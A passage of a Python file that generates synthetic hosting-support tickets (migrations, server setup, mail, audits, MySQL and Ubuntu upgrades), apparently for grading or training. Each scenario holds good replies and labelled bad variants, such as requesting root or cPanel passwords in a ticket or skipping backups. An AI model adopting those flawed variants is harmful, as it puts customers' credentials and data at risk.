  quote=["Готовы выполнить перенос. Состав работ:",
         ("ul", ["перенос файлов сайта и базы данных (до 5 ГБ);",
                 "настройка окружения на VPS под Битрикс (nginx, PHP 8.1, MySQL 8), проверка в «Мониторе производительности»;",
                 "перенос почтовых ящиков с сохранением писем;",
                 "переключение DNS в согласованное время: финальная синхронизация базы займёт около 15 минут, на это время магазин закрываем заглушкой."]),
         "Стоимость — 4 500 ₽, срок — 2 рабочих дня с момента получения доступов. Счёт выставлен в личном кабинете."],
  access_ok=["Доступы к старому хостингу передайте, пожалуйста, через защищённую форму: [[https://my.demohost.example/secure-share|my.demohost.example/secure-share]] — не пишите пароли в тикет."],
  access_bad=["Пришлите, пожалуйста, логин и пароль от панели старого хостинга и от FTP ответом на это письмо."],
  no_quote_reply=["Хорошо, сделаем перенос. Начнём, как только получим доступы."],
  agree=["Согласны, счёт оплатили. Доступы отправили через форму. Переключение лучше в ночь с пятницы на субботу."],
  agree_plain=["Оплатили. Доступы: панель — admin / (пароль удалён из тикета сотрудником поддержки), FTP — тот же."],
  agree_noquote=["Доступы отправили. А сколько это будет стоить?"],
  work_note=["Перед началом: полный бэкап сайта и базы на исходном хостинге (/backup/{dom}-src.tar.gz на VPS) и снапшот {srv} до настройки окружения. Первичная синхронизация прошла, imapsync по ящикам — ок."],
  work_note_nb=["Первичная синхронизация сайта прошла, imapsync по ящикам — ок. Начинаю настройку окружения на {srv}."],
  report=["Перенос завершён. Что сделано:",
          ("ul", ["файлы и база перенесены на {srv}, окружение настроено (nginx, PHP 8.1, MySQL 8), «Монитор производительности» — 87 баллов;",
                  "почтовые ящики перенесены со всей перепиской;",
                  "DNS переключены в ночь на субботу, магазин был закрыт заглушкой 14 минут."]),
          "Проверили: оформление заказа, оплату тестовым платежом, письма с сайта, вход в админку. Старый хостинг пока не отключайте 3–5 дней — на случай, если что-то понадобится."],
  report_thin=["Перенос выполнен."],
  unv_fail=["Не приходят письма с формы обратной связи на сайте."],
  unv_fix=["Проверили: на новом сервере для PHP не был настроен отправитель, и письма отклонялись. Настроили отправку через локальный MTA с DKIM, отправили тест с формы — письмо пришло. Извините, что не проверили это сразу."],
  tail=[("c", [["Всё работает, заказы идут. Спасибо за аккуратный переезд!"], ["Спасибо, всё проверили, магазин работает."]])],
  hints={"no_quote": "Начал перенос без согласования стоимости и состава работ — клиент спросил цену уже после",
         "no_backup": "Не сделал бэкап исходного сайта и снапшот VPS перед работами",
         "pwd_plain": "Попросил прислать пароли в тикете вместо защищённой формы",
         "report_thin": "Финальный ответ «перенос выполнен» без перечня работ и результатов проверки",
         "unverified": "Не проверил отправку писем с формы на новом сервере",
         "good": "Подробная смета, переключение ночью с заглушкой, отчёт с результатами проверки"})

S(key="paid-lemp", access_na=True, team="paid-services", lang="ru", tags=["vps", "nginx"], kind="paid", ztype="task",
  backup_line=["Перед началом работ сделали снапшот {srv} (snap-{n}), он хранится 7 дней."],
  subj=["Настроить VPS под Laravel", "Платная настройка сервера: nginx + PHP + PostgreSQL", "Подготовить {srv} под проект"],
  open=[["Купили VPS {srv} (Ubuntu 24.04), нужно подготовить его под проект на Laravel: nginx, PHP 8.3, PostgreSQL, Redis, SSL на {dom}, очереди через supervisor. Сколько будет стоить?"],
        ["Нужна настройка чистого VPS {srv} под Laravel-приложение с очередями и Redis. Разработчик задеплоит сам, от вас — окружение."]],
  quote=["Готовы выполнить. Состав работ:",
         ("ul", ["установка и настройка nginx, PHP 8.3-FPM с нужными расширениями, PostgreSQL 16, Redis;",
                 "виртуальный хост для {dom}, выпуск SSL Let's Encrypt с автопродлением;",
                 "supervisor для воркеров очередей, cron для планировщика Laravel;",
                 "отдельный пользователь для деплоя с доступом по SSH-ключу, базовая защита (ufw, fail2ban)."]),
         "Стоимость — 3 500 ₽, срок — 1 рабочий день. Счёт в личном кабинете."],
  access_ok=["Сервер новый и доступ у нас есть через панель, пароли присылать не нужно. Публичный SSH-ключ разработчика можно приложить к тикету — это не секрет."],
  access_bad=["Пришлите root-пароль от сервера ответом на это письмо."],
  no_quote_reply=["Хорошо, настроим. Приступаем."],
  agree=["Согласны, оплатили. Ключ разработчика во вложении."],
  agree_attach=[("deploy-key.pub", "text/plain", (90, 120))],
  agree_plain=["Оплатили. Root-пароль: (удалён из тикета сотрудником поддержки)."],
  agree_noquote=["Спасибо. А по цене сориентируете?"],
  work_note=["Снапшот {srv} перед началом: snap-{n}. Ставлю nginx/php8.3-fpm/postgresql-16/redis, пользователь deploy."],
  work_note_nb=["Ставлю nginx/php8.3-fpm/postgresql-16/redis на {srv}, пользователь deploy."],
  report=["Сервер готов. Что сделано:",
          ("ul", ["nginx, PHP 8.3-FPM (pdo_pgsql, redis, intl, gd, zip), PostgreSQL 16 (база app, пользователь app), Redis — только на localhost;",
                  "виртуальный хост {dom} с корнем /var/www/{dom}/current/public, SSL Let's Encrypt с автопродлением;",
                  "supervisor: 2 воркера queue:work, cron для schedule:run;",
                  "пользователь deploy с ключом разработчика, ufw (22, 80, 443), fail2ban для SSH."]),
          "Проверили: тестовая страница Laravel открывается по HTTPS, воркеры запущены, подключение к базе и Redis работает. Пароль базы — в файле /home/deploy/.env.db (доступ только у deploy)."],
  report_thin=["Готово, сервер настроен."],
  unv_fail=["Разработчик задеплоил — воркеры очередей падают с ошибкой доступа к storage/logs."],
  unv_fix=["Посмотрели: воркеры supervisor запускались от www-data, а файлы проекта принадлежат deploy. Перевели воркеры на пользователя deploy и добавили www-data в группу deploy с правами на storage. Воркеры работают, задачи из очереди обрабатываются."],
  tail=[("c", [["Всё завелось, спасибо!"], ["Разработчик доволен, спасибо за аккуратную настройку."]])],
  hints={"no_quote": "Приступил к работам без согласования цены и перечня",
         "no_backup": "Не сделал снапшот перед настройкой сервера",
         "pwd_plain": "Запросил root-пароль в тикете, хотя доступ к серверу у нас уже был",
         "report_thin": "Отчёт «готово» без перечня установленного и результатов проверки",
         "unverified": "Не проверил запуск воркеров под пользователем проекта",
         "good": "Подробный отчёт с версиями, пользователями и результатами проверки"})

S(key="paid-mail", access_na=True, team="paid-services", lang="ru", tags=["mail", "vps"], kind="paid", ztype="task",
  backup_line=["Перед установкой сделали снапшот {srv} (snap-{n}), он хранится 7 дней."],
  subj=["Настроить почтовый сервер на VPS", "Платная настройка Postfix + Dovecot", "Свой почтовый сервер для {dom}"],
  open=[["Хотим поднять свою почту для {dom} на VPS {srv}: около 20 ящиков, веб-интерфейс, антиспам. Сделаете? Сколько стоит?"],
        ["Нужен почтовый сервер на нашем VPS {srv} для домена {dom}, с DKIM и нормальной доставляемостью. Оцените, пожалуйста."]],
  quote=["Да, сделаем. Состав работ:",
         ("ul", ["Postfix + Dovecot (IMAP/POP3, SMTP с авторизацией), Rspamd в качестве антиспама;",
                 "веб-почта Roundcube на mail.{dom} с SSL;",
                 "DNS: MX, SPF, DKIM, DMARC, PTR-запись для IP сервера;",
                 "создание до 25 ящиков по вашему списку."]),
         "Стоимость — 6 000 ₽, срок — 2 рабочих дня. Счёт в личном кабинете."],
  access_ok=["Доступ к серверу у нас есть (VPS на администрировании). Список ящиков пришлите, пожалуйста, без паролей — пароли сгенерируем и передадим через защищённую ссылку."],
  access_bad=["Пришлите список ящиков и пароли к ним ответом на это письмо."],
  no_quote_reply=["Хорошо, настроим почтовый сервер."],
  agree=["Счёт оплатили, список ящиков во вложении."],
  agree_attach=[("spisok-yashchikov.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", (9_000, 16_000))],
  agree_plain=["Оплатили, список ящиков с паролями ниже (удалено из тикета сотрудником поддержки)."],
  agree_noquote=["Список ящиков во вложении. Цену так и не назвали, сколько выйдет?"],
  work_note=["Снапшот {srv} перед установкой: snap-{n}. Ставлю postfix/dovecot/rspamd/roundcube, PTR заказан в сетевом отделе."],
  work_note_nb=["Ставлю postfix/dovecot/rspamd/roundcube на {srv}, PTR заказан в сетевом отделе."],
  report=["Почтовый сервер готов. Что сделано:",
          ("ul", ["Postfix, Dovecot и Rspamd установлены и настроены, доступ только по TLS;",
                  "веб-почта — [[https://mail.{dom}|https://mail.{dom}]];",
                  "добавлены MX, SPF, DKIM, DMARC, PTR для {ip};",
                  "создано 19 ящиков, пароли — по одноразовой ссылке, отправленной на адрес владельца договора."]),
          "Проверили: отправка и приём с внешних ящиков, оценка на mail-tester — 10/10, антиспам отсекает тестовое GTUBE-письмо."],
  report_thin=["Почта настроена."],
  unv_fail=["Письма на mail.example уходят в спам, на остальные вроде нормально."],
  unv_fix=["Проверили заголовки: PTR для {ip} ещё не обновился в сетевом отделе, и mail.example ругается на несоответствие. Сейчас PTR применён, повторная отправка на тестовый ящик mail.example — во «Входящих»."],
  tail=[("c", [["Всё работает, сотрудники подключились. Спасибо!"], ["Спасибо, письма доходят, веб-почта удобная."]])],
  hints={"no_quote": "Начал работы, не назвав стоимость и состав",
         "no_backup": "Не сделал снапшот перед установкой почтового сервера",
         "pwd_plain": "Попросил пароли ящиков в открытом виде в тикете",
         "report_thin": "Отчёт из двух слов, без перечня записей DNS и результатов проверки",
         "unverified": "Не проверил PTR и доставку до крупных почтовых сервисов",
         "good": "Полный отчёт с DNS-записями и проверкой на mail-tester"})

S(key="paid-audit", access_na=True, team="paid-services", lang="ru", tags=["security", "vps"], kind="paid", ztype="task",
  subj=["Аудит безопасности сервера", "Проверить сервер на уязвимости", "Платный аудит {srv}"],
  open=[["После истории со взломом у соседей хотим проверить безопасность нашего VPS {srv}. Что вы можете предложить? Менять пока ничего не нужно, сначала отчёт."],
        ["Нужен аудит безопасности сервера {srv}: открытые порты, обновления, пароли, права. Изменения согласуем отдельно после отчёта."]],
  quote=["Предлагаем аудит без изменений на сервере. Состав работ:",
         ("ul", ["проверка открытых портов и запущенных служб;",
                 "проверка обновлений ОС и ПО, версий CMS;",
                 "настройки SSH, пользователи и sudo, права на файлы сайтов;",
                 "анализ логов авторизации за 30 дней."]),
         "Результат — письменный отчёт с оценкой рисков и списком рекомендаций. Стоимость — 2 500 ₽, срок — 1 рабочий день."],
  access_ok=["Доступ к серверу у нас есть (он на администрировании), дополнительно ничего присылать не нужно."],
  access_bad=["Пришлите root-пароль ответом на это письмо."],
  no_quote_reply=["Хорошо, проведём аудит."],
  agree=["Согласны, оплатили."],
  agree_plain=["Оплатили. Пароль: (удалён из тикета сотрудником поддержки)."],
  agree_noquote=["Спасибо. Сколько это стоит?"],
  work_note=["Аудит только на чтение, изменений не вношу. Снимаю: ss -tlnp, apt list --upgradable, sshd -T, lastb/auth.log за 30 дней."],
  work_note_nb=["Аудит только на чтение. Снимаю: ss -tlnp, apt list --upgradable, sshd -T, auth.log за 30 дней."],
  report=["Аудит завершён, отчёт во вложении. Главное:",
          ("ul", ["**высокий риск:** MySQL слушает на всех интерфейсах (порт 3306 открыт в интернет) — рекомендуем ограничить localhost;",
                  "**высокий риск:** вход по SSH под root с паролем, за 30 дней около 41 000 неудачных попыток — рекомендуем вход только по ключу и fail2ban;",
                  "**средний риск:** 37 пакетов без обновлений безопасности, WordPress 6.2 (актуальна 6.8);",
                  "**низкий риск:** права 777 на каталог uploads."]),
          "Изменения на сервере не вносились. Если хотите, выполним рекомендации отдельной работой — стоимость 2 000 ₽, перед изменениями сделаем снапшот."],
  report_thin=["Аудит сделан, есть замечания, отчёт во вложении."],
  attach_report=("audit-{srv}.pdf", "application/pdf", (180_000, 420_000)),
  na={"backup"},
  tail=[("c", [["Спасибо, отчёт очень понятный. Давайте выполним рекомендации."], ["Спасибо, изучим и вернёмся."]])],
  hints={"no_quote": "Не согласовал стоимость аудита до начала",
         "pwd_plain": "Попросил root-пароль в тикете, хотя доступ к серверу у нас есть",
         "report_thin": "В ответе нет ни одного вывода — клиенту нужно читать весь PDF",
         "backup_na": "Аудит без изменений на сервере — снапшот не требовался",
         "good": "Отчёт разбит по уровням риска, сразу предложено исправление с бэкапом"})

S(key="paid-mysql-upgrade", access_na=True, team="paid-services", lang="ru", tags=["mysql", "vps"], kind="paid", ztype="task",
  report_nb=["MySQL обновлён до 8.0.40. Что сделано:",
             ("ul", ["проверка совместимости — 2 некритичных предупреждения, исправлены в конфигурации (sql_mode);",
                     "обновление в ночь на четверг, простой — 22 минуты."]),
             "Проверили: все 6 баз открываются, сайты работают, ошибок в журнале MySQL нет."],
  subj=["Обновить MySQL 5.7 до 8.0", "Платное обновление MySQL на {srv}", "Переход на MySQL 8"],
  open=[["На VPS {srv} стоит MySQL 5.7, поддержка закончилась. Нужно обновить до 8.0, там 6 баз, самая большая — 9 ГБ. Сколько стоит и какой будет простой?"],
        ["Разработчики просят MySQL 8 на {srv}. Сейчас 5.7. Можете обновить аккуратно, чтобы ничего не потерять?"]],
  quote=["Готовы обновить. План работ:",
         ("ul", ["полный дамп всех баз и снапшот {srv} перед началом;",
                 "проверка совместимости (mysqlsh util.checkForServerUpgrade) — пришлём результат до обновления;",
                 "обновление до MySQL 8.0 в согласованное ночное окно, простой — 20–30 минут;",
                 "проверка сайтов и приложений после обновления."]),
         "Стоимость — 3 000 ₽, срок — 2 рабочих дня с учётом проверки совместимости."],
  access_ok=["Сервер у нас на администрировании, доступ есть."],
  access_bad=["Пришлите пароль root от MySQL ответом на это письмо."],
  no_quote_reply=["Хорошо, обновим MySQL."],
  agree=["Согласны. Окно — ночь со среды на четверг."],
  agree_plain=["Ок. Пароль root MySQL: (удалён из тикета сотрудником поддержки)."],
  agree_noquote=["Хорошо. А сколько это будет стоить?"],
  work_note=["Снапшот {srv}: snap-{n}, mysqldump --all-databases --single-transaction → /backup/mysql-5.7-full.sql.gz (11 ГБ). checkForServerUpgrade: 2 предупреждения (utf8mb3, устаревший sql_mode), некритично."],
  work_note_nb=["checkForServerUpgrade: 2 предупреждения (utf8mb3, устаревший sql_mode), некритично. Обновляю MySQL на {srv}."],
  report=["MySQL обновлён до 8.0.40. Что сделано:",
          ("ul", ["перед обновлением сделаны снапшот сервера и полный дамп всех баз;",
                  "проверка совместимости — 2 некритичных предупреждения, исправлены в конфигурации (sql_mode);",
                  "обновление в ночь на четверг, простой — 22 минуты."]),
          "Проверили: все 6 баз открываются, сайты работают, ошибок в журнале MySQL нет. Дамп 5.7 храним 14 дней на случай отката."],
  report_thin=["Обновили."],
  unv_fail=["После обновления отчёты в CRM падают с ошибкой про GROUP BY."],
  unv_fix=["Разобрались: в MySQL 8 по умолчанию включён режим ONLY_FULL_GROUP_BY, а запросы отчётов CRM написаны без него. Вернули sql_mode как в 5.7 для этой базы, отчёты строятся. Разработчикам рекомендуем поправить запросы — список во вложении."],
  tail=[("c", [["Всё работает, спасибо!"], ["Отлично, спасибо за аккуратное обновление."]])],
  hints={"no_quote": "Начал обновление без согласования цены и окна простоя",
         "no_backup": "Обновил MySQL без снапшота и полного дампа баз — при сбое данные было бы не восстановить",
         "pwd_plain": "Запросил пароль root MySQL в тикете",
         "report_thin": "Отчёт одним словом, без версии, простоя и результатов проверки",
         "unverified": "Не проверил работу приложений после обновления — упали отчёты CRM",
         "good": "Снапшот и дамп до обновления, проверка совместимости, отчёт с результатами"})

S(key="paid-migration-en", team="paid-services", lang="en", tags=["migration", "hosting"], kind="paid", ztype="task",
  backup_line=["Before starting we took a full backup of the source account and a snapshot of the target account."],
  subj=["Move our WordPress sites from another provider", "Migration quote for {dom}", "Paid migration of 3 WordPress sites"],
  open=[["We have three WordPress sites ({dom} and two smaller ones) at another provider and want to move them to your hosting. Can you do the migration for us? What's the price?"],
        ["Looking for a managed migration of {dom} (WooCommerce, ~4 GB) to your hosting with minimal downtime. Please send a quote."]],
  quote=["We'd be happy to help. Scope of work:",
         ("ul", ["migration of files and databases for up to 3 WordPress sites (up to 10 GB in total);",
                 "PHP version and settings matching your current host, SSL certificates;",
                 "switching DNS at an agreed time, with a final database sync (about 10 minutes of read-only mode for the shop);",
                 "post-migration checks: pages, admin area, forms, checkout."]),
         "Price: 5,000 RUB, timeline: 2 business days after we receive access."],
  access_ok=["Please share the old host's credentials through our secure form: [[https://my.demohost.example/secure-share|my.demohost.example/secure-share]] — please don't post passwords in this ticket."],
  access_bad=["Please reply with your old host's cPanel username and password."],
  no_quote_reply=["Sure, we'll migrate the sites. We'll start once we have access."],
  agree=["Sounds good, invoice paid and credentials submitted via the form. Best time to switch is Sunday morning."],
  agree_plain=["Paid. cPanel login: (password removed from the ticket by support)."],
  agree_noquote=["Access sent. How much will this cost, by the way?"],
  work_note=["Backups before start: full cPanel backup pulled to /backup/{dom}-src, snapshot of the target account. Initial rsync done, DB import OK."],
  work_note_nb=["Initial rsync done, DB import OK. Starting config."],
  report=["The migration is complete. Summary:",
          ("ul", ["all sites moved with files and databases, PHP 8.2 with the same settings as before;",
                  "SSL certificates issued for all domains;",
                  "DNS switched on Sunday at 08:00, the shop was in read-only mode for 9 minutes."]),
          "Checked: all pages, admin logins, contact forms, a test order with the sandbox payment method. Please keep the old account for a few more days just in case."],
  report_thin=["Migration done."],
  unv_fail=["Images on the smaller site are broken after the move."],
  unv_fix=["Found it: that site had hard-coded URLs with the old temporary domain in the database. I ran a search-replace on the database (a dump was taken first), cleared the cache, and checked several pages — images load fine now. Sorry for missing that."],
  tail=[("c", [["Everything works. Great job, thanks!"], ["All three sites are running fine, thank you."]])],
  hints={"no_quote": "Начал миграцию, не назвав стоимость",
         "no_backup": "Не сделал резервную копию исходных сайтов перед переносом",
         "pwd_plain": "Попросил пароль от cPanel в тикете вместо защищённой формы",
         "report_thin": "Отчёт «Migration done» без перечня и проверок",
         "unverified": "Не проверил второстепенные сайты после переноса — сломались изображения",
         "good": "Чёткая смета, перенос с режимом только для чтения, отчёт с проверками"})

S(key="paid-os-en", access_na=True, team="paid-services", lang="en", tags=["vps", "upgrade"], kind="paid", ztype="task",
  report_nb=["The upgrade is done, {srv} is now on Ubuntu 22.04.5 LTS. Summary:",
             ("ul", ["PostgreSQL upgraded 12 → 14, PHP 7.4 → 8.1 (FPM pool settings carried over);",
                     "downtime: 47 minutes."]),
             "Checked: the app's login and main pages, background jobs in cron, database connections, no errors in nginx/PHP logs."],
  subj=["Upgrade Ubuntu 20.04 to 22.04 on our VPS", "Paid OS upgrade for {srv}", "Ubuntu 20.04 end of support — upgrade quote"],
  open=[["Our VPS {srv} runs Ubuntu 20.04, which is out of standard support. Can you upgrade it to 22.04 for us? It runs nginx, PHP and PostgreSQL for our app."],
        ["We need an in-place upgrade of {srv} from Ubuntu 20.04 to 22.04. What's the price and the expected downtime?"]],
  quote=["Yes, we can do this. Plan:",
         ("ul", ["snapshot of {srv} and a PostgreSQL dump before any change;",
                 "do-release-upgrade to 22.04 in an agreed night window, expected downtime 40–60 minutes;",
                 "PostgreSQL 12 → 14 cluster upgrade with pg_upgradecluster, PHP 7.4 → 8.1 config migration;",
                 "checks of nginx, PHP-FPM, the app and cron jobs afterwards."]),
         "Price: 4,000 RUB, rollback to the snapshot is included if anything goes wrong."],
  access_ok=["The server is under our management, so no credentials are needed."],
  access_bad=["Please send us the root password in this ticket."],
  no_quote_reply=["OK, we'll upgrade the server."],
  agree=["Approved. Window: Tuesday night, any time after 23:00 Moscow time."],
  agree_plain=["Approved. Root password: (removed from the ticket by support)."],
  agree_noquote=["OK. What's the cost?"],
  work_note=["Snapshot {srv}: snap-{n}; pg_dumpall → /backup/pg-12-full.sql.gz. Starting do-release-upgrade."],
  work_note_nb=["Starting do-release-upgrade on {srv}."],
  report=["The upgrade is done, {srv} is now on Ubuntu 22.04.5 LTS. Summary:",
          ("ul", ["snapshot and full PostgreSQL dump taken beforehand;",
                  "PostgreSQL upgraded 12 → 14, PHP 7.4 → 8.1 (FPM pool settings carried over);",
                  "downtime: 47 minutes."]),
          "Checked: the app's login and main pages, background jobs in cron, database connections, no errors in nginx/PHP logs. The snapshot will be kept for 7 days."],
  report_thin=["Upgraded."],
  unv_fail=["The nightly export cron job didn't run after the upgrade."],
  unv_fix=["The job called /usr/bin/php7.4 directly, which no longer exists. I changed it to /usr/bin/php, ran it manually to confirm it completes, and checked the remaining cron entries for hard-coded versions — none left."],
  tail=[("c", [["Everything looks good. Thanks!"], ["Great work, thank you."]])],
  hints={"no_quote": "Начал обновление без согласования стоимости и окна",
         "no_backup": "Не сделал снапшот и дамп PostgreSQL перед обновлением ОС",
         "pwd_plain": "Запросил root-пароль в тикете, хотя сервер у нас на обслуживании",
         "report_thin": "Отчёт одним словом",
         "unverified": "Не проверил задания cron после обновления PHP",
         "good": "Снапшот и дамп до начала, отчёт с версиями и временем простоя"})

# ---------------------------------------------------------------------------------------
# More ways customers open the same kind of request: each use of a scenario takes the next
# opening, so repeated scenarios do not repeat the customer's words.
# ---------------------------------------------------------------------------------------

EXTRA_OPEN = {
    "fl-ns": ["Неделю назад заказали у вас хостинг и перенесли сайт {dom}, вчера сменили DNS у регистратора. Дома открывается новый сайт, а у клиентов — старый, и заявки с формы уходят на старый сервер. Как это исправить?"],
    "fl-mx": ["Третий день не получаем почту на ящики домена {dom}. В веб-почте пусто, хотя клиенты говорят, что пишут. Наши письма при этом доходят. Проверьте, пожалуйста, что с приёмом почты."],
    "fl-ssl": ["Не могу подключить SSL к сайту {dom}: в разделе «SSL-сертификаты» после нажатия «Выпустить» через несколько минут появляется «Ошибка проверки домена». По http сайт открывается. Нужен https для подключения оплаты."],
    "fl-php": ["С сегодняшнего утра сайт {dom} показывает пустую страницу, в админку WordPress тоже не зайти. В панели вижу, что версия PHP — 8.2, хотя раньше была 7.4. Мы её не меняли."],
    "fl-quota": ["Почему на сайте {dom} не сохраняются изменения в админке? Пишет «Не удалось записать файл на диск». В панели диск занят на 10 из 10 ГБ, но у нас только сайт и одна почта."],
    "fl-docs": ["Для налоговой нужен акт сверки на {prev_month_end} и акты по договору {acc} за {prev_months} с подписью. Подскажите, как их получить и можно ли через ЭДО?"],
    "fl-restore": ["Помогите, пожалуйста: после обновления шаблона на сайте {dom} пропало меню и половина картинок. Вчера всё было нормально. Есть ли у вас вчерашняя копия и как её вернуть?"],
    "fl-2fa": ["Не можем войти в панель: приложение с кодами было на рабочем телефоне сотрудника, он уволился. Аккаунт {acc}, владелец — наша организация. Как восстановить доступ?"],
    "fl-malware": ["Chrome при заходе на {dom} показывает красное предупреждение «Сайт может быть опасен». Компьютер проверяли — вирусов нет. Что с сайтом?"],
    "fl-renew": ["Сегодня перестали работать почта и сайт {dom}, whois показывает, что домен истёк вчера. Но мы пополняли баланс на прошлой неделе специально под продление! Почему не продлилось?"],
    "fl-ns-en": ["Moved {dom} to DemoHost and updated the nameservers at my registrar this morning. My phone shows the new site, my laptop still shows the old one. Is something misconfigured?"],
    "fl-spam-en": ["Our newsletter and regular emails from @{dom} are being flagged as spam by Outlook and Gmail since we switched to your hosting. Is there anything on the server side we need to set up?"],
    "fl-transfer-en": ["I'm moving {dom} away from my old registrar because of their renewal prices. I've unlocked it and got the auth code. What are the next steps on your side, and is there any downtime?"],
    "fl-dbrestore-en": ["Someone ran a DELETE without a WHERE clause on the orders table in shop_db about an hour ago. All orders are gone. Can you restore just that table from last night?"],
    "fl-htaccess-en": ["{dom} returns HTTP 500 for every page since about 9am. The only change today was an .htaccess edit by our freelancer (redirects for the old blog URLs). Could you look at the logs?"],
    "l2-vps-net": ["Срочно! VPS {srv} не отвечает после перезагрузки, которую сделали после apt upgrade. SSH — timeout, пинга нет. В веб-консоли панели — приглашение входа. На сервере наша CRM."],
    "l2-load": ["Сайт {dom} стал открываться по 10–15 секунд, графики CPU в панели уже несколько дней в красной зоне. Посещаемость прежняя, мы ничего не обновляли. Что нагружает аккаунт?"],
    "l2-mysql": ["Каждое утро база на {srv} не работает — сайт пишет ошибку подключения к БД. После перезапуска MySQL всё работает до следующей ночи. Логи смотреть не умеем, помогите разобраться."],
    "l2-raid": ["Мониторинг прислал уведомление о деградации RAID на сервере {srv}. Сервер работает, сайты открываются. Нужно ли что-то делать срочно и будет ли простой?"],
    "l2-blacklist": ["Наши письма клиентам с {dom} стали возвращаться с ошибкой про Spamhaus, а часть вообще пропадает. На сервере {srv} у нас только сайт с формой заказа. Помогите разобраться."],
    "l2-snap": ["В разделе снапшотов VPS {srv} все задачи за неделю красные, ошибка без подробностей. Что случилось с резервным копированием?"],
    "l2-ddos": ["Сайт {dom} недоступен уже полчаса, на VPS {srv} не зайти по SSH — всё висит. Графики в панели показывают огромный входящий трафик. Помогите!"],
    "l2-502": ["После переезда аккаунта {acc} на новый сервер админка сайта {dom} постоянно выдаёт 502, особенно на тяжёлых операциях. Раньше такого не было."],
    "l2-chain-en": ["Our monitoring script (Python requests) reports SSL errors for {dom} since we replaced the certificate on {srv}, but the site opens fine in browsers. What could be wrong?"],
    "l2-disk-en": ["{srv} (managed) is out of disk space and our app can't write anymore. It's a small app, so something must be filling the disk. Can you check?"],
    "l2-dns-en": ["I created a new A record for api.{dom} in the DNS panel this morning, and it still returns NXDOMAIN, even from your own nameservers. Other records work. Can you check?"],
    "l2-kvm-en": ["We upgraded the kernel on {srv} and rebooted, and it never came back. Remote hands or KVM please, this is our production database server."],
    "paid-migration": ["Нужна помощь с переездом: сайт {dom} на Битриксе и почта сейчас у другого провайдера, хотим к вам на VPS {srv}. Сможете перенести под ключ? Сколько это будет стоить?"],
    "paid-lemp": ["Подскажите стоимость настройки сервера {srv} под Laravel: nginx, PHP 8.3, PostgreSQL, Redis, supervisor для очередей и SSL для {dom}. Деплой сделаем сами."],
    "paid-mail": ["Хотим уйти с бесплатной почты и поднять свою на VPS {srv} для {dom}: 15–20 сотрудников, веб-интерфейс, защита от спама. Сколько стоит настройка?"],
    "paid-audit": ["Оцените, пожалуйста, стоимость проверки безопасности VPS {srv}: хотим понять, что у нас открыто наружу и какие есть риски. Сначала только отчёт, без изменений."],
    "paid-mysql-upgrade": ["Нужно обновить MySQL на {srv} с 5.7 до 8.0 — этого требует новая версия CRM. Баз шесть, есть крупная. Какой план и сколько стоит?"],
    "paid-migration-en": ["We'd like you to migrate our WordPress site {dom} plus two small landing pages from our current host. Could you quote the job and tell us the expected downtime?"],
    "paid-os-en": ["Could you handle the upgrade of {srv} from Ubuntu 20.04 to 22.04? Stack: nginx, PHP 7.4, PostgreSQL 12. We'd like a quote and a downtime estimate."],
    # chats: one line each
    "chat-ns": "Привет! Домен {dom} зарегистрирован в другом месте, хостинг у вас. Что сделать, чтобы сайт открывался?",
    "chat-promo": "Подскажите, на какие услуги действует промокод AUTUMN30? На VPS пишет, что недействителен",
    "chat-mailbox": "Здравствуйте! Хочу завести ящик sales@{dom}, где это делается?",
    "chat-ftp": "Не подключается FTP, FileZilla долго думает и отваливается по таймауту",
    "chat-default-page": "Залил сайт по FTP, а открывается страница хостинга, а не мой сайт. Что не так?",
    "chat-ns-en": "Hi, which nameservers do I set for {dom}? It's registered elsewhere.",
    "chat-upgrade-en": "Hello, my VPS {srv} keeps running out of memory. Can I just add RAM?",
    "chat-card-en": "Hi, can't top up — my card gets declined every time on your payment page",
    "chat-ssh-en": "Hello, my new server {srv} rejects my SSH key: Permission denied (publickey)",
}
# the scenarios used most get a fourth opening
EXTRA_OPEN_MORE = {
    "paid-audit": ["Нам нужен независимый взгляд на безопасность сервера {srv}: лишние открытые порты, устаревший софт, слабые места в SSH. Сделаете аудит? Только отчёт, изменения потом."],
    "chat-ftp": "Здравствуйте, не могу подключиться по FTP к сайту {dom} — ни FileZilla, ни Total Commander не подключаются",
    "chat-default-page": "Здравствуйте, сайт {dom} показывает «Сайт успешно размещён», хотя файлы я загрузил ещё вчера",
    "chat-upgrade-en": "Hi, what's the quickest way to get more RAM and CPU on {srv}? Do I need a new server?",
    "chat-ns": "Добрый день, подскажите, какие NS прописать для домена {dom}, чтобы он работал с вашим хостингом?",
}
# calls: other ways the caller opens the conversation
EXTRA_CALL_OPEN = {
    "call-charge": ["Добрый день, у меня двойное списание за хостинг — в банковском приложении два платежа по 2 990 в один день.",
                    "Здравствуйте, вы с меня дважды списали деньги за тариф, вчера. Разберитесь, пожалуйста."],
    "call-suspended": ["Алло, здравствуйте. Сайт {dom} не работает, вместо него ваша страница «Доступ приостановлен». Мы что-то не оплатили?",
                       "Добрый день, у нас с утра лежит сайт {dom}, пишет, что доступ приостановлен."],
    "call-tariff": ["Добрый день. Нам нужно разместить ещё два сайта, а тариф «Старт» позволяет только один. Что можно сделать?",
                    "Здравствуйте, хотим перейти на тариф побольше — будет три сайта вместо одного."],
    "call-email-change": ["Добрый день. Нужно сменить почту в личном кабинете: старый адрес был у уволившегося сотрудника, и пароль восстановить не можем.",
                          "Здравствуйте, у нас нет доступа к кабинету — пароль забыли, а почта для восстановления старая, её уже нет."],
    "call-mail-phone": ["Здравствуйте, не получается добавить рабочую почту {mbox} на телефон, пишет «Не удаётся подключиться».",
                        "Добрый день, помогите настроить почту {mbox} на айфоне, никак не подключается."],
    "call-refund": ["Добрый день. Хотим закрыть договор, проект больше не нужен. Можно вернуть деньги, которые остались на балансе?",
                    "Здравствуйте, подскажите, как расторгнуть договор и получить назад остаток с баланса?"],
    "call-reboot-en": ["Hello, our server {srv} is completely stuck, nothing responds. Could you restart it for us?",
                       "Hi, we need an urgent reboot of {srv}, it's been hanging for half an hour."],
}


def _add_variants():
    for sc in SCENARIOS:
        for table in (EXTRA_OPEN, EXTRA_OPEN_MORE):
            extra = table.get(sc["key"])
            if extra is not None:
                sc["open"] = list(sc["open"]) + [extra]
        calls = EXTRA_CALL_OPEN.get(sc["key"])
        if calls:
            first = sc["dialog"][0]
            sc["dialog"] = [("C", [first[1]] + calls)] + list(sc["dialog"][1:])
        # a stable, scenario-specific starting point for cycling through the variants
        sc["offset"] = sum(map(ord, sc["key"])) % 7


_add_variants()


# ---------------------------------------------------------------------------------------
# Gender: texts are written in the masculine; female authors (and trainer comments about
# female engineers) get the feminine past tense.
